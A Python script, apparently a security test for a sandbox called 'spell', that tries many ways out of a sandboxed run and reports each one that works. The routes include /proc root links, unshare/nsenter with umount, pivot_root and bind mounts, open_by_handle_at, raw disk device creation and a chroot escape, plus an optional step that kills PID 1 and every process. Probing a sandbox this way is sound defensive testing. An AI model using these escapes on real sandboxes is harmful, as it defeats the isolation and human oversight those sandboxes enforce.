"""Tries to leave a run by every way that is known; prints a line for each that leads somewhere. Its argument, as JSON, tells it all
that an attacker could know or guess."""
import ctypes
import json
import os
import signal
import socket
import subprocess
import sys

target = json.loads(sys.argv[1])
folder, secret = target["folder"], target["secret"]


def reached(what):
    print(what, flush=True)


def quietly(attempt, *arguments):
    """The attempt's answer; None where it was refused."""
    try:
        return attempt(*arguments)
    except (OSError, ValueError):
        return None


def content(path):
    with open(path, "rb") as file:
        return file.read(1 << 20)


def processes():
    return [entry for entry in os.listdir("/proc") if entry.isdigit() and int(entry) != os.getpid()]


def connect(path):
    with socket.socket(socket.AF_UNIX) as endpoint:
        endpoint.settimeout(5)
        endpoint.connect(path)
        return True


def holds_secret(top):
    for parent, _, files in os.walk(top):
        for name in files:
            if secret.encode() in (quietly(content, f"{parent}/{name}") or b""):
                return True
    return False


def open_by_handle(inode):
    """The way past every mount for who may look files up by their number."""
    libc = ctypes.CDLL(None, use_errno=True)

    class Handle(ctypes.Structure):
        _fields_ = [("size", ctypes.c_uint), ("type", ctypes.c_int), ("inode", ctypes.c_uint), ("generation", ctypes.c_uint)]

    top = os.open("/", os.O_RDONLY)
    descriptors = [top] + [fd for path in ("/tmp", "/etc", "/var", "/spell") if (fd := quietly(os.open, path, os.O_RDONLY)) is not None]
    return any(libc.open_by_handle_at(fd, ctypes.byref(Handle(8, 1, inode, 0)), os.O_RDONLY) >= 0 for fd in descriptors)


def mount_points():
    with open("/proc/self/mountinfo") as table:
        return [line.split()[4].encode().decode("unicode_escape") for line in table]


if quietly(os.listdir, folder):
    reached("folder by path")
if quietly(os.mkdir, folder + "/made-by-an-attacker") or os.path.exists(folder + "/made-by-an-attacker"):
    os.rmdir(folder + "/made-by-an-attacker")
    reached("folder by path, to write")
if any(quietly(os.listdir, f"/proc/{pid}/{way}{folder}") for pid in processes() for way in ("root", "cwd")):
    reached("folder by /proc")
parts = folder.strip("/").split("/")
for point in mount_points():
    for first in range(len(parts)):
        path = os.path.normpath("/".join([point, *parts[first:]]))
        if path != folder and quietly(os.listdir, path) and os.stat(path).st_ino == target["inode"]:
            reached(f"folder by another mount: {path}")
if holds_secret(folder):
    reached("secret file")

with open("/proc/net/unix") as table:
    sockets = {line.split()[7] for line in table if len(line.split()) > 7 and folder in line}
for path in {f"{folder}/spelld.sock", *sockets}:
    if quietly(connect, path) or any(quietly(connect, f"/proc/{pid}/root{path}") for pid in processes()):
        reached("socket")
        break
if subprocess.run([target["spell"], "ps"], env={"SPELL_DIR": folder, "PATH": "/usr/bin:/bin"}, capture_output=True, timeout=30).returncode == 0:
    reached("spell")

if any(secret.encode() in (quietly(content, f"/proc/{pid}/environ") or b"") for pid in processes()):
    reached("environment")
for pid in processes():
    for descriptor in quietly(os.listdir, f"/proc/{pid}/fd") or []:
        if (quietly(os.readlink, f"/proc/{pid}/fd/{descriptor}") or "").startswith(folder):
            reached("descriptor")
for name in ("service", "other"):
    # Here the number may be somebody else's: only one of the name that it has outside counts.
    if (quietly(content, f"/proc/{target[name]}/comm") or b"") in (b"spelld\n", b"sleep\n"):
        if quietly(lambda: os.kill(target[name], 0) is None):
            reached("signal")

for entering in ([], ["unshare", "-m"], ["unshare", "-Urm"], ["unshare", "-Urmpf", "--mount-proc"], ["nsenter", "-t", "1", "-m"],
                 ["nsenter", "-t", "1", "-U", "-m"]):
    if not os.path.exists("/spell"):
        break  # this is not a run, and what follows would hurt the machine
    for leaving in (f"umount {folder}", f"umount -l {folder}", "umount -l /tmp", "umount -R /", f"mount --bind {os.path.dirname(folder)} /mnt && cd /mnt",
                    f"mount --move {folder} /mnt", "mount -t proc proc /mnt && cd /mnt/1/root", f"mount -o remount,bind {folder}",
                    "cd / && pivot_root . . && umount -l ."):
        looking = f"ls -A {folder} ./{parts[-1]} /mnt/{parts[-1]} .{folder} 2>/dev/null | grep -v :"
        result = subprocess.run([*entering, "sh", "-c", f"({leaving}) >/dev/null 2>&1; {leaving} >/dev/null 2>&1; {looking}"],
                                capture_output=True, text=True, timeout=30)
        if any(name in result.stdout for name in ("spelld.lock", "spell.db", "worker")):
            reached(f"folder by {entering} {leaving}")

if os.path.exists("/spell"):
    if open_by_handle(target["inode"]):
        reached("folder by its number")
    if quietly(lambda: os.mknod("/spell-tmp/disk", 0o600 | 0o060000, os.stat("/spell").st_dev) is None) and quietly(os.open, "/spell-tmp/disk", 0):
        reached("disk by a device of its own")
    if os.fork() == 0:
        os.makedirs("/spell-tmp/jail")
        if quietly(lambda: os.chroot("/spell-tmp/jail") is None):
            for _ in range(64):
                os.chdir("..")
            if quietly(os.listdir, "." + folder):
                reached("folder by a second root")
        os._exit(0)
    os.wait()
    if sys.argv[2:] == ["kill everybody"]:
        quietly(os.kill, 1, signal.SIGKILL)
        quietly(os.kill, -1, signal.SIGKILL)
print("end of the attack")
